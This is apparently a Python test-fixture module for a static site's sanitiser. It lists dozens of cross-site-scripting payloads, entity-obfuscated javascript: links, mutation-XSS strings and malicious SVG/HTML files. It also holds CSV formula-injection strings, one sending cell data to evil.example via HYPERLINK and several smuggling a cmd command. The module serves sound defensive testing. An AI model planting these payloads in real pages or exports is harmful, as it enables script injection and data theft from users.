# ruff: noqa: E501 (attacks are data: one per line, however long)
"""The attacks the security suite plants, as data: add an attack in one line.

- `BODY_ATTACKS`: Markdown bodies of releases (each in a release of its own, and all of them in a
  static page). `warns` says whether `archive check` must report something the sanitiser drops
  (False for bodies Markdown itself keeps as text, such as code).
- `FIELD_PAYLOADS`: text put into every text field of one release each (title, summary, dateline,
  contacts, source, review) and into the registry's names and descriptions.
- `REGISTRY_URLS`: registry `url` values that must be refused (a check error, never a link).
- `CSV_PAYLOADS`: text that would start a spreadsheet formula.
- `ACTIVE_FILES`: files in content/ the build must not publish, with their text.
"""

from __future__ import annotations

from typing import NamedTuple


class Attack(NamedTuple):
    name: str
    text: str
    warns: bool = True  # `archive check` reports something the sanitiser removes


# fmt: off
BODY_ATTACKS = [
    Attack("script", "<script>alert(1)</script>"),
    Attack("script-upper", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    Attack("script-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    Attack("img-onerror", '<img src="x" onerror="alert(1)">'),
    Attack("img-onerror-upper", "<IMG SRC=x ONERROR=alert(1)>"),
    Attack("img-backtick", "<img src=`x` onerror=alert(1)>", warns=False),  # Markdown makes it text
    Attack("img-slash", "<img/src=x/onerror=alert(1)>", warns=False),  # one harmless src value
    Attack("svg-onload", "<svg onload=alert(1)>"),
    Attack("svg-script", "<svg><script>alert(1)</script></svg>"),
    Attack("svg-xlink", '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>'),
    Attack("svg-animate", "<svg><a><animate attributeName=href values=javascript:alert(1) />x</a></svg>"),
    Attack("svg-set", "<svg><set attributeName=onmouseover to=alert(1) /></svg>"),
    Attack("svg-use-data", '<svg><use href="data:image/svg+xml,<svg id=x><image href=1 onerror=alert(1) /></svg>#x"/></svg>'),
    Attack("math-xlink", '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'),
    Attack("iframe-srcdoc", '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>'),
    Attack("iframe-js", '<iframe src="javascript:alert(1)"></iframe>'),
    Attack("iframe-data", '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>'),
    Attack("object-data", '<object data="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"></object>'),
    Attack("embed", '<embed src="javascript:alert(1)">'),
    Attack("form-formaction", '<form><button formaction="javascript:alert(1)">Go</button></form>'),
    Attack("input-formaction", "<input type=image formaction=javascript:alert(1) src=x>"),
    Attack("input-autofocus", "<input autofocus onfocus=alert(1)>"),
    Attack("details-ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>"),
    Attack("body-onload", "<body onload=alert(1)>"),
    Attack("video-poster", "<video poster=javascript:alert(1)><source onerror=alert(1)></video>"),
    Attack("audio-onerror", "<audio src=x onerror=alert(1)></audio>"),
    Attack("marquee", "<marquee onstart=alert(1)>x</marquee>"),
    Attack("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    Attack("base-href", '<base href="https://evil.example/">'),
    Attack("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    Attack("style-tag", "<style>body{background:url(javascript:alert(1))}</style>"),
    Attack("style-attr", '<p style="position:fixed;inset:0;background:red">x</p>'),
    Attack("md-link-js", "[click me](javascript:alert(1))"),
    Attack("md-link-js-upper", "[click me](JAVASCRIPT:alert(1))"),
    Attack("md-link-js-space", "[click me]( javascript:alert(1))"),
    Attack("md-link-vbscript", "[click me](vbscript:msgbox(1))"),
    Attack("md-link-data", "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    Attack("md-ref-js", "[click me][x]\n\n[x]: javascript:alert(1)"),
    Attack("md-autolink-js", "<javascript:alert(1)>"),
    Attack("md-image-data", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    Attack("md-image-js", "![x](javascript:alert(1))"),
    Attack("a-entity-scheme", '<a href="&#x6A;avascript&colon;alert(1)">x</a>'),
    Attack("a-decimal-entity", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'),
    Attack("a-tab-scheme", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    Attack("a-newline-scheme", '<a href="java&#10;script:alert(1)">x</a>'),
    Attack("a-leading-control", '<a href="&#1;javascript:alert(1)">x</a>'),
    Attack("a-target-blank", '<a href="https://evil.example/" target="_blank">x</a>'),
    Attack("a-ping", '<a href="https://example.org/" ping="https://evil.example/">x</a>'),
    Attack("img-srcset", '<img src="a.png" srcset="javascript:alert(1) 1x">'),
    Attack("mutation-noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    Attack("mutation-mglyph", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    Attack("mutation-svg-style", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
    Attack("mutation-form", '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">'),
    Attack("comment-break", "<!--><img src=x onerror=alert(1)>-->"),
    Attack("comment-unclosed", "Text before <!-- the rest of the page", warns=False),  # text
    Attack("cdata", "<![CDATA[><img src=x onerror=alert(1)>]]>"),
    Attack("template", "<template><img src=x onerror=alert(1)></template>"),
    Attack("textarea-break", "<textarea></textarea><img src=x onerror=alert(1)>"),
    Attack("title-break", "<title></title><img src=x onerror=alert(1)>"),
    Attack("xmp", "<xmp><img src=x onerror=alert(1)></xmp>"),
    Attack("close-script", "</script><script>alert(1)</script>"),
    Attack("close-layout", "</div></article></main><script>alert(1)</script>"),
    Attack("table-script", "| a |\n|---|\n| <script>alert(1)</script> |"),
    Attack("footnote-js", "Note[^1].\n\n[^1]: [more](javascript:alert(1))"),
    Attack("dom-clobber", '<a id="search-q" name="x" href="#">x</a><img name="getElementById">'),
    Attack("class-overlay", '<div class="skip-link site-header">Fake header</div>'),
    Attack("static-js", "[x]({static}javascript:alert(1))"),  # Pelican rewrites it after cleaning
    Attack("intrasite-js", "[x]({1}javascript:alert(1))"),  # `javascript:{1}javascript:alert(1)` runs
    Attack("intrasite-empty-js", "[x]({}javascript:alert(1))"),
    Attack("intrasite-bars-js", "[x](|filename|javascript:alert(1))"),
    Attack("intrasite-index-js", '<a href="{index}JavaScript:alert(1)">x</a>'),
    Attack("intrasite-img-js", "![x]({attach}javascript:alert(1))"),
    Attack("intrasite-cite-js", '<blockquote cite="{tag}javascript:alert(1)">x</blockquote>'),
    Attack("entity-text", "&lt;script&gt;alert(1)&lt;/script&gt;", warns=False),
    Attack("inline-code", "`<script>alert(1)</script>`", warns=False),
    Attack("indented-code", "Code:\n\n    <script>alert(1)</script>", warns=False),
]

FIELD_PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</script><script>alert(1)</script>",
    "<!--",
    "--><img src=x onerror=alert(1)><!--",
    "</title><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    "]]><script>alert(1)</script>",
    "javascript:alert(1)",
    "{{ 7*7 }} {% if 1 %}jinja{% endif %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "line\u2028separator\u2029here",
    "bell\x07and\x1bescape",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
]

REGISTRY_URLS = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/",
    'https://example.org/"onmouseover=alert(1)',
    "ftp://example.org/",
]

CSV_PAYLOADS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]

ACTIVE_FILES = {
    "images/evil.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "images/evil.SVG": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "extra/evil.html": "<script>alert(1)</script>",
    "extra/evil.js": "alert(1)",
    "extra/evil.xml": '<?xml-stylesheet type="text/xsl" href="evil.xsl"?><x/>',
    "pages/evil.html": "<html><head><title>Evil</title></head><body><script>alert(1)</script></body></html>",
    "pages/evil.rst": "Evil\n####\n\n.. raw:: html\n\n   <script>alert(1)</script>\n",
}
# fmt: on
